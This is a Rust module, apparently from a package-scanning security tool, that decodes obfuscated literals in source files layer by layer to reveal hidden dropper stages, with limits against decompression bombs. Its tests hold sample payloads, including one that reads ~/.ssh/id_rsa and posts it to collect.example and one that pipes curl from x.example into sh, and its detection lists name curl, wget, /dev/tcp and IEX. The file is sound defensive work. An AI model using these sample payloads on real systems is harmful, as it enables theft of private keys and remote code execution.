//! Hidden stages: literal blobs decoded the way droppers decode them
//! (base64, hex, `\x` escapes, char-code arrays and `fromCharCode`, joined
//! or reversed string pieces, zlib/gzip/deflate, ROT13 and XOR with a
//! literal key), layer after layer, until code comes out. The code is then
//! analysed like a file of the package ([`crate::analyze`]), its evidence
//! carrying the layers (`base64 → zlib → python`).
//!
//! Candidates are found in the raw text with regular expressions, so that
//! minified files, string concatenation and arrays of pieces are covered
//! whatever the grammar makes of them. Every step is bounded ([`Limits`]):
//! depth, output size per decode and per file, candidate count and time.
//! A limit that fires is recorded, never silently skipped.

use std::io::Read;
use std::sync::LazyLock;
use std::time::Instant;

use base64::Engine as _;
use paddock_proto::v1::Language;
use regex::bytes::Regex;

/// Bounds of the decoding of one file.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Layers decoded on one chain, at most.
    pub max_depth: usize,
    /// Bytes one decompression may produce.
    pub max_output: usize,
    /// Bytes all decodes of one file may produce.
    pub max_total: usize,
    /// Candidates tried per file.
    pub max_candidates: usize,
    /// Stages kept per file.
    pub max_stages: usize,
    pub deadline: Instant,
}

impl Limits {
    pub fn new(deadline: Instant) -> Self {
        Self {
            max_depth: 6,
            max_output: 4 << 20,
            max_total: 16 << 20,
            max_candidates: 256,
            max_stages: 16,
            deadline,
        }
    }
}

/// The language a hidden stage is written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StageLanguage {
    Code(Language),
    Shell,
    PowerShell,
}

impl StageLanguage {
    pub fn name(self) -> &'static str {
        match self {
            StageLanguage::Code(Language::Javascript) => "javascript",
            StageLanguage::Code(Language::Typescript) => "typescript",
            StageLanguage::Code(Language::Python) => "python",
            StageLanguage::Code(Language::Ruby) => "ruby",
            StageLanguage::Code(Language::Php) => "php",
            StageLanguage::Code(Language::Rust) => "rust",
            StageLanguage::Code(Language::Unspecified) => "text",
            StageLanguage::Shell => "shell",
            StageLanguage::PowerShell => "powershell",
        }
    }
}

/// Code decoded from a literal of the file.
#[derive(Debug, Clone)]
pub struct Stage {
    /// Decoding steps, outermost first (`base64`, `zlib`…).
    pub layers: Vec<&'static str>,
    pub language: StageLanguage,
    pub text: String,
    /// The line of the literal in the file.
    pub line: u32,
}

/// Text decoded from a literal that is not code: a URL, a path, a pool
/// address. Its string classes count as present in the file.
#[derive(Debug, Clone)]
pub struct DecodedString {
    pub layers: Vec<&'static str>,
    pub text: String,
    pub line: u32,
}

/// Decoded strings kept per file, at most.
const MAX_STRINGS: usize = 64;

/// What decoding one file found.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    pub stages: Vec<Stage>,
    pub strings: Vec<DecodedString>,
    /// Limits that fired, as sentences.
    pub limits: Vec<String>,
}

static BASE64_RUN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{40,}={0,2}").expect("valid regex"));
static HEX_RUN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(?:[0-9a-fA-F]{2}){24,}\b").expect("valid regex"));
static ESCAPE_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\[0-7]{3}){12,}").expect("valid regex")
});
static CHAR_CODES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\b(?:0x[0-9a-fA-F]{1,4}|\d{1,5})\s*,\s*){15,}(?:0x[0-9a-fA-F]{1,4}|\d{1,5})\b")
        .expect("valid regex")
});
/// The longest mean length of the pieces of a joined string that is
/// decoded as a stage.
const MAX_MEAN_PIECE: usize = 12;
/// `'ab' + 'cd'`, `"ab" . "cd"`, `['ab', 'cd']`: pieces of one string.
static PIECES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:(?:"[^"\\\n]{1,200}"|'[^'\\\n]{1,200}')\s*[+.,]\s*){3,}(?:"[^"\\\n]{1,200}"|'[^'\\\n]{1,200}')"#)
        .expect("valid regex")
});
static PIECE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#""([^"\\\n]*)"|'([^'\\\n]*)'"#).expect("valid regex"));
static KEY_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:key|xor|k|secret|pass)\w*\s*(?::\s*[&\[\]\w; ]{1,24}?\s*=|[:=]|=>)\s*(?:b?"([^"\n]{1,32})"|b?'([^'\n]{1,32})'|(0x[0-9a-f]{1,2}|\d{1,3})\b)"#)
        .expect("valid regex")
});

struct Work<'a> {
    limits: &'a Limits,
    produced: usize,
    keys: Vec<Vec<u8>>,
    out: Outcome,
    hint: Language,
}

impl Work<'_> {
    fn limit(&mut self, what: String) {
        if !self.out.limits.contains(&what) && self.out.limits.len() < 16 {
            self.out.limits.push(what);
        }
    }

    fn over_time(&mut self) -> bool {
        if Instant::now() > self.limits.deadline {
            self.limit("decoding stopped at the file's time limit".into());
            true
        } else {
            false
        }
    }
}

/// Decodes the hidden stages of `source`, a file in `hint`'s language.
pub fn decode_file(source: &[u8], hint: Language, limits: &Limits) -> Outcome {
    let mut work = Work {
        limits,
        produced: 0,
        keys: xor_keys(source),
        out: Outcome::default(),
        hint,
    };
    let line_of = |offset: usize| -> u32 {
        source[..offset.min(source.len())]
            .iter()
            .filter(|b| **b == b'\n')
            .count() as u32
            + 1
    };
    let mut candidates: Vec<(usize, Vec<u8>, &'static str)> = Vec::new();
    for m in PIECES.find_iter(source) {
        let pieces: Vec<&[u8]> = PIECE
            .captures_iter(m.as_bytes())
            .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|g| g.as_bytes()))
            .collect();
        let joined: Vec<u8> = pieces.concat();
        // Obfuscators cut a string into fragments ('ev' + 'al',
        // ['ht', 'tps:/', '/x.ex', …]); whole lines kept in a tuple or
        // wrapped over several literals are a template, not a stage.
        let fragments = pieces.len() >= 4 && joined.len() <= pieces.len() * MAX_MEAN_PIECE;
        if joined.len() >= 24 && fragments {
            candidates.push((m.start(), joined, "joined"));
        }
    }
    for m in ESCAPE_RUN.find_iter(source) {
        let text =
            crate::parse::decode_literal(&format!("\"{}\"", String::from_utf8_lossy(m.as_bytes())));
        candidates.push((
            m.start(),
            text.chars().map(|c| c as u32 as u8).collect(),
            "escapes",
        ));
    }
    for m in CHAR_CODES.find_iter(source) {
        let numbers: Vec<u32> = String::from_utf8_lossy(m.as_bytes())
            .split(',')
            .filter_map(|n| {
                let n = n.trim();
                match n.strip_prefix("0x") {
                    Some(h) => u32::from_str_radix(h, 16).ok(),
                    None => n.parse::<u32>().ok(),
                }
            })
            .collect();
        // Codes in ascending order are a character table (a parser's
        // set of token characters), not text.
        if numbers.windows(2).all(|w| w[0] <= w[1]) {
            continue;
        }
        let codes: Vec<u8> = numbers
            .into_iter()
            .filter_map(char::from_u32)
            .flat_map(|c| c.to_string().into_bytes())
            .collect();
        candidates.push((m.start(), codes, "char-codes"));
    }
    for m in BASE64_RUN.find_iter(source) {
        candidates.push((m.start(), m.as_bytes().to_vec(), ""));
    }
    for m in HEX_RUN.find_iter(source) {
        candidates.push((m.start(), m.as_bytes().to_vec(), ""));
    }
    candidates.sort_by_key(|c| c.0);
    // A run inside another candidate's span is the same blob.
    for (tried, (offset, blob, origin)) in candidates.into_iter().enumerate() {
        if work.out.stages.len() >= limits.max_stages {
            work.limit(format!(
                "more than {} hidden stages; the rest were not decoded",
                limits.max_stages
            ));
            break;
        }
        if tried >= limits.max_candidates {
            work.limit(format!(
                "more than {} encoded-looking literals; the rest were not decoded",
                limits.max_candidates
            ));
            break;
        }
        if work.over_time() {
            break;
        }
        let reversed_context = {
            let end = (offset + blob.len() + 64).min(source.len());
            let start = offset.saturating_sub(24);
            let around = &source[start..end];
            contains(around, b"reverse()")
                || contains(around, b"[::-1]")
                || contains(around, b"strrev(")
                || contains(around, b".reverse")
        };
        let rot13_context = contains(&source[offset.saturating_sub(24)..offset], b"rot13");
        let mut layers: Vec<&'static str> = Vec::new();
        if !origin.is_empty() {
            layers.push(origin);
        }
        let mut blob = blob;
        if reversed_context {
            blob.reverse();
            layers.push("reversed");
        }
        if rot13_context {
            blob = rot13(&blob);
            layers.push("rot13");
        }
        let line = line_of(offset);
        // Pieces and escapes may already be code.
        if !origin.is_empty() || reversed_context || rot13_context {
            if let Some(lang) = code_language(&blob, hint) {
                work.out.stages.push(Stage {
                    layers: with(&layers, lang.name()),
                    language: lang,
                    text: String::from_utf8_lossy(&blob).into_owned(),
                    line,
                });
                continue;
            }
            if decoders(&mut work, &blob, line).is_empty() {
                keep_string(&mut work, &blob, &layers, line);
                continue;
            }
        }
        descend(&mut work, &blob, layers, line, 0);
    }
    work.out
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn with(layers: &[&'static str], last: &'static str) -> Vec<&'static str> {
    let mut v = layers.to_vec();
    v.push(last);
    v
}

/// Tries every decoder on `blob`; recurses on what decodes.
fn descend(work: &mut Work<'_>, blob: &[u8], layers: Vec<&'static str>, line: u32, depth: usize) {
    if depth >= work.limits.max_depth {
        work.limit(format!(
            "a literal at line {line} is encoded more than {} layers deep; decoding stopped there",
            work.limits.max_depth
        ));
        return;
    }
    if work.over_time() {
        return;
    }
    // At most one decoding is followed (the best).
    if let Some((name, decoded)) = decoders(work, blob, line).into_iter().next() {
        work.produced += decoded.len();
        if work.produced > work.limits.max_total {
            work.limit(format!(
                "decoded output passed {} bytes; decoding stopped",
                work.limits.max_total
            ));
            return;
        }
        let layers = with(&layers, name);
        if let Some(lang) = code_language(&decoded, work.hint) {
            if work.out.stages.len() < work.limits.max_stages {
                work.out.stages.push(Stage {
                    layers: with(&layers, lang.name()),
                    language: lang,
                    text: String::from_utf8_lossy(&decoded).into_owned(),
                    line,
                });
            }
            return;
        }
        descend(work, &decoded, layers, line, depth + 1);
    } else if !layers.is_empty() {
        keep_string(work, blob, &layers, line);
    }
}

/// Keeps short printable text that came out of a decoder.
fn keep_string(work: &mut Work<'_>, blob: &[u8], layers: &[&'static str], line: u32) {
    if work.out.strings.len() >= MAX_STRINGS || blob.len() > 4096 || blob.len() < 4 {
        return;
    }
    let Ok(text) = std::str::from_utf8(blob) else {
        return;
    };
    if text
        .chars()
        .all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
    {
        work.out.strings.push(DecodedString {
            layers: layers.to_vec(),
            text: text.to_owned(),
            line,
        });
    }
}

/// The decodings of `blob` worth following, best first: at most one is
/// followed.
fn decoders(work: &mut Work<'_>, blob: &[u8], line: u32) -> Vec<(&'static str, Vec<u8>)> {
    let mut out = Vec::new();
    let trimmed: Vec<u8> = blob
        .iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    // Compressed and XORed data are binary: whitespace bytes are part of
    // them. Only the text encodings ignore whitespace.
    let raw = blob;
    if raw.starts_with(&[0x1f, 0x8b]) {
        if let Some(d) = inflate(work, flate2::read::GzDecoder::new(raw), "gzip", line) {
            out.push(("gzip", d));
            return out;
        }
    }
    if raw.first() == Some(&0x78) {
        if let Some(d) = inflate(work, flate2::read::ZlibDecoder::new(raw), "zlib", line) {
            out.push(("zlib", d));
            return out;
        }
    }
    if trimmed.len() >= 16
        && trimmed.len().is_multiple_of(2)
        && trimmed.iter().all(u8::is_ascii_hexdigit)
    {
        if let Ok(d) = hex::decode(&trimmed) {
            out.push(("hex", d));
            return out;
        }
    }
    if trimmed.len() >= 16
        && trimmed
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
    {
        let s = String::from_utf8_lossy(&trimmed);
        let unpadded = s.trim_end_matches('=');
        let engines = [
            &base64::engine::general_purpose::STANDARD_NO_PAD,
            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ];
        for e in engines {
            if let Ok(d) = e.decode(unpadded) {
                if d.len() >= 8 {
                    out.push(("base64", d));
                    return out;
                }
            }
        }
    }
    // Raw deflate, and XOR with a literal or single-byte key, only for
    // binary-looking data (text would already have been taken).
    if !is_text(raw) && !known_binary(raw) {
        if let Some(d) = inflate(
            work,
            flate2::read::DeflateDecoder::new(raw),
            "deflate",
            line,
        ) {
            if d.len() > 8 {
                out.push(("deflate", d));
                return out;
            }
        }
        if raw.len() <= 1 << 20 {
            if let Some(d) = xor(work, raw) {
                out.push(("xor", d));
            }
        }
    }
    out
}

fn inflate<R: Read>(work: &mut Work<'_>, reader: R, name: &str, line: u32) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let limit = work.limits.max_output as u64;
    match reader.take(limit + 1).read_to_end(&mut out) {
        Ok(_) if out.len() as u64 > limit => {
            work.limit(format!(
                "{name} data at line {line} expands past {limit} bytes (a decompression bomb?); decoding stopped there"
            ));
            None
        }
        Ok(_) if !out.is_empty() => Some(out),
        _ => None,
    }
}

/// Keys for XOR: short literals assigned to key-like names.
fn xor_keys(source: &[u8]) -> Vec<Vec<u8>> {
    let mut keys = Vec::new();
    for c in KEY_LITERAL.captures_iter(source) {
        if let Some(k) = c.get(1).or_else(|| c.get(2)) {
            keys.push(k.as_bytes().to_vec());
        } else if let Some(n) = c.get(3) {
            let t = String::from_utf8_lossy(n.as_bytes());
            let v = match t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
                Some(h) => u8::from_str_radix(h, 16).ok(),
                None => t.parse::<u8>().ok(),
            };
            if let Some(v) = v.filter(|v| *v != 0) {
                keys.push(vec![v]);
            }
        }
        if keys.len() >= 16 {
            break;
        }
    }
    keys
}

fn xor(work: &Work<'_>, data: &[u8]) -> Option<Vec<u8>> {
    let probe = &data[..data.len().min(256)];
    let apply = |key: &[u8], bytes: &[u8]| -> Vec<u8> {
        bytes
            .iter()
            .enumerate()
            .map(|(i, b)| b ^ key[i % key.len()])
            .collect()
    };
    let mut keys: Vec<Vec<u8>> = work.keys.clone();
    keys.extend((1u8..=255).map(|k| vec![k]));
    for key in keys {
        if key.is_empty() {
            continue;
        }
        if !is_text(&apply(&key, probe)) {
            continue;
        }
        let whole = apply(&key, data);
        if is_text(&whole) {
            return Some(whole);
        }
    }
    None
}

fn rot13(b: &[u8]) -> Vec<u8> {
    b.iter()
        .map(|c| match c {
            b'a'..=b'z' => (c - b'a' + 13) % 26 + b'a',
            b'A'..=b'Z' => (c - b'A' + 13) % 26 + b'A',
            _ => *c,
        })
        .collect()
}

fn known_binary(b: &[u8]) -> bool {
    const MAGIC: &[&[u8]] = &[
        b"\x89PNG",
        b"\xff\xd8\xff",
        b"GIF8",
        b"wOFF",
        b"wOF2",
        b"\0asm",
        b"OTTO",
        b"\0\x01\0\0",
        b"%PDF",
        b"PK\x03\x04",
        b"RIFF",
        b"\x7fELF",
        b"MZ",
        b"ID3",
        b"fLaC",
        b"OggS",
    ];
    MAGIC.iter().any(|m| b.starts_with(m))
}

/// Printable UTF-8 (or ASCII) text.
fn is_text(b: &[u8]) -> bool {
    if b.len() < 8 {
        return false;
    }
    let Ok(s) = std::str::from_utf8(b) else {
        return false;
    };
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    printable * 100 >= s.chars().count() * 97
}

/// The language decoded text is code in, when it is code.
pub fn code_language(b: &[u8], hint: Language) -> Option<StageLanguage> {
    if !is_text(b) {
        return None;
    }
    let s = String::from_utf8_lossy(&b[..b.len().min(64 << 10)]);
    let score = |tokens: &[&str]| tokens.iter().filter(|t| s.contains(*t)).count();
    let mut scores = [
        (
            StageLanguage::Code(Language::Python),
            score(&[
                "import ",
                "def ",
                "exec(",
                "os.",
                "subprocess",
                "__import__",
                "print(",
                "open(",
                "requests.",
                "socket.",
                "base64.",
                "lambda ",
                "except",
                "self.",
            ]),
        ),
        (
            StageLanguage::Code(Language::Javascript),
            score(&[
                "require(",
                "function",
                "=>",
                "const ",
                "var ",
                "let ",
                "module.exports",
                "process.",
                "eval(",
                ".then(",
                "JSON.",
                "Buffer.",
            ]),
        ),
        (
            StageLanguage::Code(Language::Php),
            score(&[
                "<?php",
                "$_",
                "base64_decode",
                "system(",
                "->",
                "echo ",
                "$this",
                "function ",
                "shell_exec",
                "curl_",
            ]),
        ),
        (
            StageLanguage::Code(Language::Ruby),
            score(&[
                "require '",
                "require \"",
                "def ",
                "\nend",
                " end",
                "Net::HTTP",
                " do |",
                "puts ",
                "ENV[",
                "File.",
                "system(",
            ]),
        ),
        (
            StageLanguage::Shell,
            score(&[
                "#!/bin/", "curl ", "wget ", "chmod ", "bash ", "| sh", "|sh", "nohup ",
                "/dev/tcp", "2>&1", "/tmp/", "&& ",
            ]),
        ),
        (
            StageLanguage::PowerShell,
            score(&[
                "IEX",
                "Invoke-",
                "New-Object",
                "-NoP",
                "DownloadString",
                "$env:",
                "Start-Process",
            ]),
        ),
    ];
    // The file's own language wins ties.
    for (lang, s) in scores.iter_mut() {
        if *lang == StageLanguage::Code(hint)
            || (hint == Language::Typescript && *lang == StageLanguage::Code(Language::Javascript))
        {
            *s = s.saturating_mul(2);
        }
    }
    let (lang, best) = scores.iter().max_by_key(|(_, s)| *s).copied()?;
    // Two distinct code tokens at least (four for a hinted language's
    // doubled score), so that prose and data are not taken for code.
    let needed = if lang == StageLanguage::Code(hint) {
        4
    } else {
        2
    };
    (best >= needed).then_some(lang)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use std::time::Duration;

    fn limits() -> Limits {
        Limits::new(Instant::now() + Duration::from_secs(5))
    }

    fn b64(b: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(b)
    }

    fn zlib(b: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b).unwrap();
        e.finish().unwrap()
    }

    const PAYLOAD: &str = "import os, urllib.request\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('https://collect.example/', data=k.encode())\n";

    #[test]
    fn three_layers_come_out_with_their_chain() {
        let stage1 = b64(&zlib(PAYLOAD.as_bytes()));
        let src =
            format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{stage1}')))\n");
        let out = decode_file(src.as_bytes(), Language::Python, &limits());
        let s = &out.stages[0];
        assert_eq!(s.layers, vec!["base64", "zlib", "python"]);
        assert_eq!(s.line, 2);
        assert!(s.text.contains("id_rsa"));
    }

    #[test]
    fn hex_xor_pieces_char_codes_and_reversal() {
        let key = b"k3y";
        let xored: Vec<u8> = PAYLOAD
            .bytes()
            .enumerate()
            .map(|(i, b)| b ^ key[i % 3])
            .collect();
        let src = format!(
            "KEY = 'k3y'\ndata = bytes.fromhex('{}')\n",
            hex::encode(&xored)
        );
        let out = decode_file(src.as_bytes(), Language::Python, &limits());
        assert_eq!(
            out.stages[0].layers,
            vec!["hex", "xor", "python"],
            "{out:?}"
        );

        let codes: Vec<String> =
            "require('child_process').exec('curl -s https://x.example/a | sh')"
                .bytes()
                .map(|b| b.to_string())
                .collect();
        let src = format!("eval(String.fromCharCode({}))", codes.join(","));
        let out = decode_file(src.as_bytes(), Language::Javascript, &limits());
        assert_eq!(out.stages[0].layers[0], "char-codes");

        let rev: String =
            b64(b"const cp = require('child_process'); cp.execSync('id'); module.exports = {};")
                .chars()
                .rev()
                .collect();
        let src = format!("eval(atob('{rev}'.split('').reverse().join('')))");
        let out = decode_file(src.as_bytes(), Language::Javascript, &limits());
        assert_eq!(
            out.stages[0].layers,
            vec!["reversed", "base64", "javascript"],
            "{out:?}"
        );
    }

    #[test]
    fn bombs_stop_at_their_limits_and_say_so() {
        // A zlib bomb: 64 MiB of zeros.
        let bomb = zlib(&vec![b'a'; 64 << 20]);
        let src = format!("x = '{}'", b64(&bomb));
        let out = decode_file(src.as_bytes(), Language::Python, &limits());
        assert!(out.stages.is_empty());
        assert!(
            out.limits.iter().any(|l| l.contains("bomb")),
            "{:?}",
            out.limits
        );

        // Twenty layers of base64.
        let mut s = PAYLOAD.to_owned();
        for _ in 0..20 {
            s = b64(s.as_bytes());
        }
        let out = decode_file(format!("x = '{s}'").as_bytes(), Language::Python, &limits());
        assert!(
            out.limits.iter().any(|l| l.contains("layers deep")),
            "{:?}",
            out.limits
        );

        // No time left: stops at once and says why.
        let past = Limits::new(Instant::now() - Duration::from_secs(1));
        let out = decode_file(
            format!("x = '{}'", b64(PAYLOAD.as_bytes())).as_bytes(),
            Language::Python,
            &past,
        );
        assert!(out.limits.iter().any(|l| l.contains("time limit")));
    }

    #[test]
    fn data_blobs_are_not_code() {
        let font = [b"wOFF".as_slice(), &[7u8; 3000]].concat();
        let src = format!("module.exports = 'data:font/woff;base64,{}';", b64(&font));
        let out = decode_file(src.as_bytes(), Language::Javascript, &limits());
        assert!(out.stages.is_empty(), "{out:?}");
        let table = b64(br#"{"a": [1, 2, 3], "b": "some words of a table"}"#);
        let out = decode_file(
            format!("T = '{table}'").as_bytes(),
            Language::Python,
            &limits(),
        );
        assert!(out.stages.is_empty(), "{out:?}");
    }

    #[test]
    fn a_table_of_characters_is_not_a_stage() {
        // The token characters of an HTTP parser, in code order.
        let codes: Vec<String> = (b'!'..=b'~').map(|b| b.to_string()).collect();
        let src = format!("export const TOKEN = [{}];\n", codes.join(", "));
        let out = decode_file(src.as_bytes(), Language::Typescript, &limits());
        assert!(out.stages.is_empty(), "{out:?}");
    }

    #[test]
    fn fragments_are_a_stage_and_templates_are_not() {
        let src = "exec('im' + 'po' + 'rt o' + 's;o' + 's.sy' + 'stem(' + '\"id\"' + ')')\n";
        let out = decode_file(src.as_bytes(), Language::Python, &limits());
        assert_eq!(out.stages[0].layers, vec!["joined", "python"], "{out:?}");

        // Whole lines of a code template kept in a tuple (setuptools'
        // namespace-package loader) are not a hidden stage.
        let src = "TMPL = (\n    \"import sys, types, os\",\n    \"p = os.path.join(%(root)s, *%(pth)r)\",\n    \"importlib = __import__('importlib.util')\",\n    \"__import__('importlib.machinery')\",\n)\n";
        let out = decode_file(src.as_bytes(), Language::Python, &limits());
        assert!(out.stages.is_empty(), "{out:?}");
    }
}
